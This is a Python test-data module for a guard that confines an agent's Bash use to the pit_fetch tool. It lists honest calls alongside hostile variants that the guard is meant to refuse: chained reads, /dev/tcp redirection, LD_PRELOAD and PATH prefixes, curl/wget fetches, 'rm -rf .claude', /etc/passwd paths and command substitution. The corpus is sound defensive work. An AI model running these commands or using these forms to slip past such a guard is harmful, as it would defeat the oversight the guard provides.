"""Commands for the guard: hostile ones, which must not run where Bash is for pit_fetch alone, and honest ones.

By family, each with the reason why it is here. tests/unit/hooks/test_guard_corpus.py asks the guard about all of them,
and about those of ordinary sessions (session_commands.py).
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping

PIT = "2024-02-15T16:00:00-05:00"
LATE = "2030-01-01T00:00:00Z"
CALL = f"pit_fetch --source x --pit {PIT}"

_READ = ("cat raw.json", "python3 -c 'print(open(\"raw.json\").read())'", "sh -c 'cat raw.json'")
_LISTS = (";", "&&", "||", "|", "&", "|&", "\n", " ;\n")
_REDIRECTIONS = (
    *("> o.json", ">> o.json", ">| o.json", ">o.json", "1> o.json", "&> o.json", "&>> o.json", ">& o.json"),
    *("<> o.json", "2> o.json", "2>&1", ">&2", "1>&2", "2>/dev/null", "< raw.json", "<<< 'x'", "<< EOF\nx\nEOF"),
    *("3< raw.json", "> /dev/tcp/h/1"),
)
_EXPANSIONS = (
    *("$X", "${X}", "${X:-y}", "$1", "$@", "$$", "$?", "$(cat raw.json)", "`cat raw.json`", "$((1+1))", "$[1+1]"),
    *("$'\\n'", '$"x"', '"$X"', '"${X}"', '"$(cat raw.json)"', '"`cat raw.json`"', '"a\\\\$(cat raw.json)"'),
    *("a$(cat raw.json)b", "<(cat raw.json)", ">(cat)", "*.json", "?", "[a-z]*", "{a,b}", "{1..3}", "~", "~/x"),
    *("~root", "a=~/x", "--query=~", "# x", "!!", "!x"),
)
_PREFIXES = (
    *("X=1", "X=", "PATH=.", "LD_PRELOAD=./x.so", "PYTHONPATH=.", "PYTHONSTARTUP=x.py", "BASH_ENV=x"),
    *("PIT_FETCH_CEILING=", "PIT_FETCH_BENZINGA_URL=http://127.0.0.1:1", "PIT_FETCH_AUDIT=/dev/stdout"),
    *("PIT_FETCH_ARCHIVE=a", "X+=1", "a[0]=1", "env", "env -i", "sudo", "nohup", "nice", "nice -n 5", "time"),
    *("timeout 5", "setsid", "stdbuf -o0", "xargs", "exec", "eval", "command", "builtin", "coproc", "!", "source", "."),
    *("unbuffer", "watch -n1", "strace -f", "ltrace", "script -c", "doas", "ssh h", "trap -", "then", "do", "{", "("),
    *("((", "[[", "while", "if", "function f", "alias x=", "export", "declare", "set --", "chroot ."),
    *("X=/pit_fetch", "A=/python3 B=/pit_fetch.py", "TZ=a/pit_fetch", "X='/pit_fetch'", "a['0']=/pit_fetch"),
)
_OTHERS = (
    *("cat raw.json", "cat pit_fetch", "ls", "head -c 99 raw.json", "grep . raw.json", "curl http://h/pit_fetch"),
    *("wget -O- h", "true", "git log", "git show", "sqlite3 a.sqlite .dump", "jq . raw.json", "less raw.json"),
    *("cp raw.json pit_fetch", "tee o", "dd if=raw.json", "bash", "sh pit_fetch.sh", "bash -c 'pit_fetch --help'"),
    *("sh -c pit_fetch", "perl -e 1", "node -e 1", "ruby pit_fetch.py", "awk 1 raw.json", "", " ", "\n", "#"),
    *("pit_fetch", "my_pit_fetch --help", "pit_fetch2 --help", "pit_fetch.sh --help", "pit-fetch --help"),
    *("PIT_FETCH --help", "echo pit_fetch", "type pit_fetch", "which pit_fetch", "printenv", "env", "history", "jobs"),
    *("fg", "kill -9 1", "rm -rf .claude", "find . -name '*.json' -exec cat {} +", "python3", "python3 evil.py"),
    *("python3 -c 'import pit_fetch'", "python3 -i -m pit_fetch --source x"),
    *("python3 -m pit_fetch.cli.main --source x", "python3 -m code pit_fetch.py", "python3 -mcode/pit_fetch.py"),
    *("python3 -x/pit_fetch.py", "python3 '-Wx/pit_fetch.py' raw.json", "python3 -c/pit_fetch.py"),
    *("python3 -c pit_fetch.py", "python3 - pit_fetch.py", "python3 evil.py pit_fetch.py", "python3 pit_fetch"),
    *("python2 pit_fetch.py --help", "pypy pit_fetch.py --help", "ipython pit_fetch.py", "pythonw -m pit_fetch"),
    *("uv run pit_fetch --help", "pip install x", "'pit_fetch --help'", "pit_fetch\\ --help", '"pit_fetch --source x"'),
    *("%1/pit_fetch --help", "=pit_fetch --help", "'~'/pit_fetch --source x", "~/bin/pit_fetch --source x"),
    *("python3 -m pit_fetch --source x", "python3 -P -m pit_fetch --version", "~-/pit_fetch --source x"),
    *("~root/pit_fetch --source x", "$HOME/pit_fetch --help", "*/pit_fetch --help"),
)
_OPTIONS = (
    *("--timeout 5", "--timeout=0.1", "timeout=5", "TIMEOUT=5", "--input-file raw.json", "--input-file=-"),
    *("input_file=raw.json", "--fail", "-v", "-vv", "-V", "-5x", "--verbose", "--format csv", "--format=table"),
    *("--output o.json", "--release /tmp/x", "--release=/tmp/x", "--archive a.sqlite", "--offline", "--config x"),
    *("--prove", "--json", "--Limit 5", "--date_from 2024-01-01", "--lim 5", "--pi x", "path=/etc/passwd"),
    *("--path raw.json", "--base-url http://h", "--proxy http://h", "--no-gate", "--open", "--debug", "--unsafe"),
    *("---limit 5", f"--pit {PIT}", f"--pit={LATE}", "'--timeout=5 s'", '"--input-file" raw.json', "\\--timeout 5"),
    *("--time\\\nout 5", "--tim''eout 5"),
)
_COMMANDS = (
    *("init", "init --force", "init --help-me", "new-provider x", "capture f.toml", "archive log", "archive drop x"),
    *("explain --pit x", "diff x", "panel x", "doctor --prove", "lint /etc", "config", "completion bash", "normalize"),
    *("audit -- cat raw.json", "serve", "replay 1"),
)
_CHARACTERS = (
    *("\x00", "\x01", "\x07", "\x08", "\r", "\x0b", "\x0c", "\x1b[2J", "\x7f", "\ud800", "'\n'", '"\n"', "'", '"'),
)


def _hostile() -> Iterator[tuple[str, str]]:
    for operator in _LISTS:
        for read in _READ:
            yield "a second command", f"{CALL}{operator} {read}"
            yield "a first command", f"{read} {operator} {CALL}"
    for command in (f"{CALL} &", f"({CALL})", f"bash -c '{CALL}'", f"~/bin/{CALL}", f'{CALL} "a\\`b" `c`'):
        yield "a call and more", command
    for redirection in _REDIRECTIONS:
        yield "a redirection", f"{CALL} {redirection}"
    for expansion in _EXPANSIONS:
        yield "an expansion", f"{CALL} --query {expansion}"
        yield "an expansion in a listing", f"pit_fetch --help {expansion}"
    for prefix in _PREFIXES:
        yield "something before the call", f"{prefix} {CALL}"
        yield "something before a program", f"{prefix} cat raw.json --help"
    for command in _OTHERS:
        yield "another program", command
    for option in _OPTIONS:
        yield "an option that is not an adapter's", f"{CALL} {option}"
    for words in _COMMANDS:
        yield "another command of pit_fetch", f"pit_fetch {words}"
    for characters in _CHARACTERS:
        yield "a character that no call needs", f"{CALL} a{characters}b"


def _calls_of_other_programs() -> Iterator[str]:
    for program in (
        *("python3 /opt/pit_fetch.py", "python3 -P /opt/pit_fetch.py", "/usr/bin/python3.12 -I /opt/pit_fetch.py"),
        *("python3 tools/pit_fetch.py", "python3 pit_fetch.py", "python3 ../x/pit_fetch.py", "./pit_fetch.py"),
        *("./pit_fetch", "/opt/x/bin/pit_fetch", "'my tools/pit_fetch'", ".venv/bin/pit_fetch"),
    ):
        yield f"{program} --source bz-news-api --pit {PIT} --tickers AAPL,MSFT --limit 50"
        yield f"{program} --source alphavantage --pit={PIT} EARNINGS symbol=AAPL"


def _honest_calls() -> Iterator[str]:
    yield f"pit_fetch --source bz-news-api --pit {PIT} --tickers AAPL,MSFT --limit 50"
    yield f"pit_fetch --source alphavantage --pit={PIT} EARNINGS symbol=AAPL"
    for option in (
        *("--tickers AAPL", "--tickers=AAPL,MSFT", "tickers=AAPL", "--channels 'M&A'", '--channels "M&A"'),
        *("--channels M\\&A", "--keywords 'rate cut'", '--keywords "rate cut"', "--keywords rate\\ cut"),
        *("--keywords '\"rate cut\"'", "--themes ai,tariffs", '--keywords "Fed\'s"', "--keywords Fed\\'s"),
        *("--keywords 'Yahoo!'", '--keywords "Yahoo!"', "--keywords C#", "--keywords '#1'", "--keywords '$5'"),
        *('--keywords "\\$5"', "--keywords 'a|b;c'", "--keywords '(half)'", "--keywords '*'", "--keywords '~'"),
        *("--keywords '`'", "--date-from 2024-01-01", "--date-to 2024-02-01", "--lookback-minutes 60"),
        *("--after CURSOR", "--fields title,url", "--max-chars 8000", "--max-pages 3", "--pretty", "--limit 5"),
        *("--limit '5'", '"--limit" "5"', "'--limit' 5", "--tags ''", "--updated-since 2024-01-01"),
        *(
            "--keywords '決算\u3000発表'",
            "--keywords 決算\u3000発表",
            "--keywords 'می\u200cخواهم'",
            "--keywords 'क्\u200dष'",
        ),
        *(
            '--keywords "a\u00a0b"',
            "--keywords 'co\u00adop'",
            "--keywords 'שלום\u200f'",
            "--keywords हिन्दी",
            "--keywords 🚀",
        ),
        *("--keywords '\U0001fae8'", "--keywords '\ufeffa'", "--keywords 'a\u2009b'", "--keywords 'a=b'"),
    ):
        yield f"pit_fetch --source bz-news-api --pit {PIT} {option}"
    for words in (
        *("EARNINGS symbol=AAPL", "--op EARNINGS --symbol AAPL", "OVERVIEW symbol=BRK.B"),
        *("TIME_SERIES_DAILY symbol=^GSPC", "symbol='^GSPC' --op EARNINGS", "FX_DAILY from_symbol=EUR to_symbol=USD"),
        *("NEWS_SENTIMENT tickers=AAPL", "SMA symbol=AAPL interval=daily time_period=10 series_type=close"),
        "TIME_SERIES_DAILY_ADJUSTED symbol=AAPL adjust=total",
        "ECONOMIC x=y"[:8],
        "EARNINGS symbol=AAPL --limit 4",
        "EARNINGS 'symbol=AAPL'",
    ):
        yield f"pit_fetch --source alphavantage --pit {PIT} {words}"
    for words in (
        *("going concern", '"going concern"', "'\"going concern\"'", '"\\"going concern\\""', "margin -5 -.5", "-- -x"),
        *("Nestlé", "--exact"),
    ):
        yield f"pit_fetch --source sec_full_text --pit {PIT} {words}"
    yield f"pit_fetch \\\n  --source bz-news-api \\\n  --pit {PIT} \\\n  --tickers AAPL"
    yield f"  pit_fetch --source bz-news-api --pit '{PIT}'  \n"
    yield f"pit_fetch --pit {PIT} --source bz-news-api \\\n"
    yield f'pit_fetch --source bz-news-api --pit "{PIT}"'
    yield f"pit_fetch EARNINGS symbol=AAPL --source alphavantage --pit {PIT}"
    yield f"pit_fetch '--source' 'x' '--pit' '{PIT}' \"--limit\" \"5\""
    yield f"pit_fetch --source sec_full_text --pit={PIT} margin of -5 -.5 - -- a=b --timeout"
    yield f'pit_fetch --source x --pit {PIT} --keywords "Yahoo! \\"beat\\" \\$5" ^GSPC C# a\\;b Nestlé'
    yield f"pit_fetch --source bz-news-api --keywords 'say --pit T' --pit {PIT}"


_LISTINGS = (
    *("pit_fetch --help", "pit_fetch -h", "pit_fetch --version", "pit_fetch --list-sources"),
    *("pit_fetch --list-sources --json", "pit_fetch help", "pit_fetch --source alphavantage --help"),
    *("pit_fetch help alphavantage", "pit_fetch doctor", "pit_fetch doctor --json", "pit_fetch lint"),
    *("pit_fetch \\\n --help", "pit_fetch '--help'"),
)

HOSTILE: Mapping[str, str] = {command: family for family, command in _hostile()}
# Of another program of this name: judged in an ordinary session, refused where Bash is for pit_fetch alone.
OTHER_PROGRAMS: tuple[str, ...] = tuple(_calls_of_other_programs())
CALLS: tuple[str, ...] = tuple(dict.fromkeys(_honest_calls()))
LISTINGS: tuple[str, ...] = _LISTINGS
